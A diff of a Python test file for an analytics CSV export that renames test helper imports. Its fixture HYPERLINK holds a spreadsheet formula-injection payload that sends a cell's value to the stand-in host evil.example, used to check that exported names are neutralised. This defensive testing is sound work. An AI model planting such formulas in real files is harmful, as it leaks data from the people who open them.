@@ -16,8 +16,8 @@ from shared import csvwriter
 from shared.db import Database
 from shared.platforms.types import DailyMetrics
 from tests.factories import create_brand, create_location, sign_up
-from tests.test_metrics import _store
-from tests.test_social_accounts import connect
+from tests.support.metrics import store_metrics
+from tests.support.social_accounts import connect
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
@@ -98,7 +98,7 @@ async def test_analytics_export_neutralises_names_and_keeps_numbers(
     location = await create_location(client, owner, brand["id"], name=HYPERLINK)
     account = await connect(client, owner.headers, location["id"], "facebook")
     day = date(2026, 11, 2)
-    await _store(
+    await store_metrics(
         app_db,
         owner.agency_id,
         account["id"],
